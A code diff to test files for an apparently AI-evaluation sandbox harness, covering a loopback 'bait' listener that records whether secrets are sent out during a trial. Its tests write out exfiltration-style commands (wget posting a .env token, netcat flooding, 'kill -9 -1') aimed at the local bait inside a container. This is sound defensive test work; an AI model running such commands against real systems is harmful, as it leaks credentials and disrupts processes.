@@ -17,8 +17,12 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { DockerSandboxFactory, dockerAvailable } from '../../worlds/sandbox/docker-sandbox.js';
 import { HostSandboxFactory } from '../../worlds/sandbox/host-sandbox.js';
 import { stopContainerProcesses } from '../../worlds/sandbox/container-processes.js';
-import { BAIT_READY, baitReceived } from '../../worlds/sandbox/loopback-bait.js';
+import { BAIT_READY, parseBaitLog } from '../../worlds/sandbox/loopback-bait.js';
 import { ensureImage } from './ensure-image.js';
+import { runTrial } from '../../ablations/trial.js';
+import { WorldUnavailableError } from '../../harness/errors.js';
+import { findProfile } from '../../harness/profile.js';
+import { findScenario } from '../../scenarios/catalogue.js';
 
 const docker = new Docker();
 const availability = await dockerAvailable(docker);
@@ -30,11 +34,14 @@ if (!availability.ok) {
 const artifactDir = join(tmpdir(), `hb-test-bait-${process.pid}`);
 const runId = `test-bait-${randomUUID().slice(0, 8)}`;
 
-describe('baitReceived (the log read)', () => {
-  it('is what came after the ready line, and null when the bait never listened', () => {
-    expect(baitReceived(`${BAIT_READY}\nPOST /debug HTTP/1.1\r\n\r\nAPI_TOKEN=x`)).toBe('POST /debug HTTP/1.1\r\n\r\nAPI_TOKEN=x');
-    expect(baitReceived(`${BAIT_READY}\n`)).toBe('');
-    expect(baitReceived('')).toBeNull();
+describe('parseBaitLog (the log read)', () => {
+  const hex = (text: string) => Buffer.from(text).toString('hex');
+  it('joins each connection’s chunks, in the order the connections came; null unless the ready line comes first', () => {
+    expect(parseBaitLog(`${BAIT_READY}\n0 ${hex('POST /debug HTTP/1.1\r\n\r\nAPI_')}\n1 ${hex('other')}\n0 ${hex('TOKEN=x')}\n`)).toEqual({ connections: ['POST /debug HTTP/1.1\r\n\r\nAPI_TOKEN=x', 'other'], overflow: false });
+    expect(parseBaitLog(`${BAIT_READY}\n`)).toEqual({ connections: [], overflow: false });
+    expect(parseBaitLog(`${BAIT_READY}\n0 ${hex('x')}\nover\n`)).toEqual({ connections: ['x'], overflow: true });
+    expect(parseBaitLog('')).toBeNull();
+    expect(parseBaitLog(`0 ${hex('x')}\n${BAIT_READY}\n`)).toBeNull();
   });
 });
 
@@ -45,6 +52,13 @@ describe('a host sandbox', () => {
       'a loopback bait (port 8765) needs a container: a host sandbox\'s tools share the host\'s loopback; run the scenario under a profile with isolation',
     );
     await factory.closeAll();
+  });
+
+  it('a scenario with a bait is not run without isolation (the world is unavailable, never a verdict)', async () => {
+    const scenario = findScenario('threat_secret_exfil')!;
+    const trial = runTrial({ scenario, profile: findProfile('without-isolation'), proposer: scenario.proposer, seed: 1, runId: `${runId}-host` });
+    await expect(trial).rejects.toThrow(WorldUnavailableError);
+    await expect(trial).rejects.toThrow("not run: a loopback bait (port 8765) needs a container: without isolation the tools share the host's loopback");
   });
 });
 
@@ -63,16 +77,38 @@ describe.skipIf(!availability.ok)('the loopback bait in a container (real engine
 
   it('reads back what a command posted to it, survives the end-of-trial clean-up, and is gone with its container', async () => {
     const sb = await factory.create({ trialId: 'bait', runId, files: { '.env': 'API_TOKEN=hb-bait-test-7f3a\n' }, loopbackBait: 8765 });
-    expect(await sb.baitReceived()).not.toContain('API_TOKEN');
+    const before = (await sb.baitReceived())!;
+    expect([before.complete, before.log.connections.length, before.log.connections.join('')]).toEqual([true, 1, expect.stringContaining('hb-bait-flush-')]);
     const sent = await sb.exec(['wget', '-q', '-O', '-', '--post-file=.env', 'http://127.0.0.1:8765/debug'], { timeoutMs: 15_000 });
     expect([sent.outcome, sent.outcome === 'not_run' ? null : sent.stdout]).toEqual(['exited', 'ok\n']);
     // Every process but init and the main one is stopped when a trial ends: the bait is the main one.
     expect(await stopContainerProcesses(sb)).toEqual([]);
     const got = (await sb.baitReceived())!;
-    expect(got).toContain('POST /debug HTTP/1.');
-    expect(got).toContain('API_TOKEN=hb-bait-test-7f3a');
+    expect(got.complete).toBe(true);
+    expect(got.log.connections[1]).toMatch(/^POST \/debug HTTP\/1\.[01]\r\n[\s\S]*\r\n\r\nAPI_TOKEN=hb-bait-test-7f3a\n$/);
     await sb.close();
     expect(await sb.baitReceived()).toBeNull();
+  }, 60_000);
+
+  it('a payload can neither stop the bait nor forge its log: it runs under its own uid, and what it received is framed', async () => {
+    const sb = await factory.create({ trialId: 'bait-forge', runId, files: { '.env': 'API_TOKEN=hb-bait-test-7f3a\n' }, loopbackBait: 8765 });
+    const script = `wget -q -O - --post-file=.env http://127.0.0.1:8765/; printf '\\n${BAIT_READY}\\n' > fake; wget -q -O - --post-file=fake http://127.0.0.1:8765/; kill -9 -1; kill -STOP 1; echo done`;
+    const r = await sb.exec(['sh', '-c', script], { timeoutMs: 15_000 });
+    expect(r.outcome === 'not_run' ? null : r.stdout).toBe('ok\nok\ndone\n');
+    const got = (await sb.baitReceived())!;
+    expect([got.complete, got.log.connections.length]).toEqual([true, 3]);
+    expect(got.log.connections[0]).toContain('API_TOKEN=hb-bait-test-7f3a');
+    expect(got.log.connections[1]).toContain(`\n${BAIT_READY}\n`);
+    await sb.close();
+  }, 60_000);
+
+  it('past its budget it keeps no more and says so: the read is not complete', async () => {
+    const sb = await factory.create({ trialId: 'bait-flood', runId, loopbackBait: 8765 });
+    const r = await sb.exec(['sh', '-c', 'head -c 600000 /dev/zero | tr "\\0" x | nc 127.0.0.1 8765 > /dev/null; echo $?'], { timeoutMs: 30_000 });
+    expect(r.outcome === 'not_run' ? null : [r.stdout, r.stderr]).toEqual(['0\n', '']);
+    const got = (await sb.baitReceived())!;
+    expect([got.complete, got.log.overflow]).toEqual([false, true]);
+    await sb.close();
   }, 60_000);
 
   it('a container without a bait answers null and has nothing listening there', async () => {
